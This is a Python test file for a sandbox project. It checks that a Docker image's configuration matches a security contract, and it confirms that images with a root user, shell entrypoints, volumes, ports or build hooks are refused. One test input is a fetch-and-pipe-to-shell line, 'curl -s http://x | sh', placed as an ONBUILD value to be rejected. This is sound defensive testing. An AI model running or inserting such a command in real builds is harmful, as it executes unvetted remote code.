"""Threat: a sandbox image whose own configuration weakens every sandbox made from it (rebuilt
by hand, substituted under the cached tag, or a Dockerfile edit that drifts from the contract).
scripts/build-image.sh refuses such an image, built or cached, with airlock_sandbox.image_config;
these tests hold that judgement, and the Dockerfile, to the contract."""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from airlock_sandbox.contract import CONTAINER_USER, WORKER_ENTRYPOINT
from airlock_sandbox.image_config import ABSENT, problems

ROOT = Path(__file__).resolve().parents[2]
DOCKERFILE = ROOT / "sandbox" / "image" / "Dockerfile"

#: ``docker image inspect --format '{{json .Config}}'`` of an image build-image.sh made.
AS_BUILT: dict[str, Any] = {
    "User": "10001:10001",
    "Env": ["PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/tmp"],
    "Entrypoint": ["python3", "-m", "airlock_worker"],
    "WorkingDir": "/tmp",
    "Labels": {"airlock.image-inputs": "353bd6c91a3a"},
}


def _instructions(dockerfile: Path) -> dict[str, list[str]]:
    """Each instruction's arguments, by instruction, for every stage in the file."""
    found: dict[str, list[str]] = {}
    for line in dockerfile.read_text().replace("\\\n", " ").splitlines():
        word, _, rest = line.strip().partition(" ")
        if word and not word.startswith("#"):
            found.setdefault(word.upper(), []).append(rest.strip())
    return found


def test_the_dockerfile_sets_what_the_contract_says() -> None:
    """One source of truth: the broker's self-test and the build's check both judge against
    the contract, so the Dockerfile must set exactly its entrypoint and user."""
    steps = _instructions(DOCKERFILE)
    assert [json.loads(e) for e in steps["ENTRYPOINT"]] == [list(WORKER_ENTRYPOINT)]
    assert steps["USER"] == [CONTAINER_USER]
    for never in ("CMD", "VOLUME", "HEALTHCHECK", "EXPOSE", "ONBUILD"):
        for dockerfile in (DOCKERFILE, DOCKERFILE.with_name("Dockerfile.site")):
            assert never not in _instructions(dockerfile), (dockerfile.name, never)


def test_the_image_as_built_passes() -> None:
    assert problems(AS_BUILT) == []
    # How older engines print the settings an image does not have: null, not absent.
    assert problems(AS_BUILT | {key: None for key in ABSENT}) == []


@pytest.mark.parametrize(("key", "value", "says"), [
    ("Entrypoint", ["sh", "-c", "exec python3 -m airlock_worker \"$@\""], "Entrypoint is"),
    ("Entrypoint", None, "Entrypoint is null"),
    ("Entrypoint", "python3 -m airlock_worker", "Entrypoint is"),  # shell form
    ("Cmd", ["--profile", "torch"], "Cmd is set"),
    ("User", "", "User is"),
    ("User", "0", "User is"),
    ("User", "10001", "User is"),  # no group: the Dockerfile names both
    ("User", "airlock", "User is"),
    ("Volumes", {"/data": {}}, "Volumes is set"),
    ("Healthcheck", {"Test": ["CMD", "python3", "-c", "0"], "Interval": 10**9},
     "Healthcheck is set"),
    ("Healthcheck", {"Test": ["NONE"]}, "Healthcheck is set"),  # not what the Dockerfile sets
    ("ExposedPorts", {"8080/tcp": {}}, "ExposedPorts is set"),
    ("OnBuild", ["RUN curl -s http://x | sh"], "OnBuild is set"),
])
def test_an_image_configured_otherwise_is_refused(key: str, value: Any, says: str) -> None:
    config = copy.deepcopy(AS_BUILT)
    config[key] = value
    (problem,) = problems(config)
    assert problem.startswith(says), problem


def test_an_image_with_no_configuration_is_refused() -> None:
    assert [p.split()[0] for p in problems(None)] == ["Entrypoint", "User"]


def _judged(stdin: str) -> subprocess.CompletedProcess[str]:
    """The module as build-image.sh runs it: the image's Config on stdin."""
    env = {**os.environ, "PYTHONPATH": str(ROOT / "sandbox")}
    return subprocess.run([sys.executable, "-m", "airlock_sandbox.image_config", "img:tag"],
                          input=stdin, capture_output=True, text=True, env=env, timeout=60,
                          check=False)


def test_the_build_step_fails_and_says_why() -> None:
    assert _judged(json.dumps(AS_BUILT)).returncode == 0
    bad = _judged(json.dumps(AS_BUILT | {"Volumes": {"/data": {}}, "User": "0:0"}))
    assert bad.returncode == 1
    assert bad.stderr.splitlines() == [
        'img:tag: User is "0:0", not "10001:10001" (the unprivileged sandbox user)',
        f"img:tag: Volumes is set ({{\"/data\": {{}}}}): {ABSENT['Volumes']}"]
    for garbage in ("", "not json", "[1, 2]"):
        said = _judged(garbage)
        assert said.returncode == 2 and said.stderr.startswith("img:tag: "), said
